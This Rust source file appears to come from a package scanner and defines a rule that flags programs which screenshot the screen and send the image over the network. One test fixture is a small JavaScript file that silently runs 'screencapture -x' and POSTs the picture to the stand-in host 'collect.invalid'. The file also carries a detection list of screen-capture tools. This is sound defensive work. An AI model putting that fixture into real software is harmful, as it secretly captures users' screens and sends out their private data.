//! A picture of the screen leaves over the network.

use super::{Context, Declaration, Example, Finding, judge};
use crate::model::Severity;

pub(super) static FINDING: Declaration = Declaration {
    id: "screen-exfiltration",
    title: "Sends a picture of the screen",
    severity: Severity::High,
    summary: "A program that takes a picture of the screen writes a file, and what is in that file reaches a request or a socket.",
    advice: "Ask what the pictures are for and who gets them. They show whatever was open: mail, passwords, other people's data.",
    benign_when: "The package is for remote help or for reporting faults, and asks the user each time.",
    references: &["CWE-359", "CWE-506", "T1113"],
    examples: &[
        Example {
            name: "a picture is taken and posted",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { execSync } = require("child_process"), fs = require("fs"), os = require("os");
const file = os.tmpdir() + "/shot.png";
execSync("screencapture -x " + file);
require("https").request({ hostname: "collect.invalid", method: "POST" }).end(fs.readFileSync(file));"#,
                ),
            ],
        },
        Example {
            name: "a picture for the caller",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { execSync } = require("child_process"), fs = require("fs"), os = require("os");
exports.shot = () => {
  const file = os.tmpdir() + "/shot.png";
  execSync("screencapture -x " + file);
  return fs.readFileSync(file);
};"#,
                ),
            ],
        },
    ],
    detect,
};

/// Programs that take pictures of the screen, with what makes them do it.
const PROGRAMS: [&str; 10] = [
    "CopyFromScreen",
    "flameshot",
    "gnome-screenshot",
    "grim",
    "import -window",
    "maim",
    "screencapture",
    "scrot",
    "spectacle",
    "xwd",
];

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    let commands = context.behaviours.iter().filter(|one| {
        let command = one.target.as_deref().unwrap_or("");
        one.what.id.starts_with("process.") && PROGRAMS.iter().any(|name| command.contains(name))
    });
    let pictures: Vec<&str> = commands.filter_map(|one| one.target.as_deref()).collect();
    for flow in context.flows {
        let (Some(file), "file-to-network") = (flow.source.target.as_deref(), flow.id) else {
            continue;
        };
        let is_named = file.len() > 1 && file != "<?>";
        let Some(command) = pictures.iter().find(|one| is_named && one.contains(file)) else {
            continue;
        };
        let host = flow.sink.target.as_deref();
        let host = host.unwrap_or("a host that is not resolved");
        let message = format!("what {command} writes is sent to {host}");
        let mut finding = Finding::of_flow(&FINDING, flow, message);
        judge::by_destination(context, flow, &flow.sink, Severity::Medium, &mut finding);
        judge::by_reach(context, flow, &mut finding);
        found.push(finding);
    }
}
